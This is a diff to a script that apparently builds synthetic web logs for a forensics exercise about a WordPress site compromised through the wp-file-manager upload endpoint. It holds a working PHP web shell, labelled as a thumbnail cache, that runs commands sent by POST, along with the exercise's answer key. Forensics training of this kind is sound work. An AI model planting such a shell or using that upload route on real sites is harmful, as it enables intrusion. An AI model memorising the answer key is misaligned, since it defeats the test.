@@ -12,7 +12,10 @@ SHELL = "/wp-content/uploads/2026/01/thumb-cache.php"
 SHELL_CODE = b"<?php\n// thumbnail cache\n@set_time_limit(0);\nif (isset($_POST['k'])) { echo shell_exec($_POST['k']); }\n"
 FIRST_CALL = datetime.datetime(2026, 1, 5, 3, 41, 17, tzinfo=datetime.timezone.utc)
 CALLS, CALL_EVERY_S = 160, 45
-TRUTH = {"path": "/var/www/html" + SHELL, "address": ADDRESS, "at": FIRST_CALL.strftime("%Y-%m-%dT%H:%M:%S"), "says": [f"answered {CALLS} time(s)"]}
+UPLOAD = "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"
+UPLOADED = FIRST_CALL - datetime.timedelta(seconds=9)
+TRUTH = {"path": "/var/www/html" + SHELL, "address": ADDRESS, "at": UPLOADED.strftime("%Y-%m-%dT%H:%M:%S"), "technique": "T1190",
+         "says": ["The same address called it then."], "title": f"{UPLOAD} from {ADDRESS}"}
 
 SITE = "https://shop.example.com"
 CHROME = "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 {}Safari/537.36"
@@ -90,7 +93,7 @@ class Writer:
         if 0 <= first - 20 < 60:
             self.say(first - 20, ADDRESS, "GET /wp-content/plugins/wp-file-manager/readme.txt", 200, 40_112, "-", agent)
         if 0 <= first - 9 < 60:
-            self.say(first - 9, ADDRESS, "POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", 200, 1_036, "-", agent)
+            self.say(first - 9, ADDRESS, f"POST {UPLOAD}", 200, 1_036, "-", agent)
         for call in range(CALLS):
             second = first + call * CALL_EVERY_S
             if 0 <= second < 60:
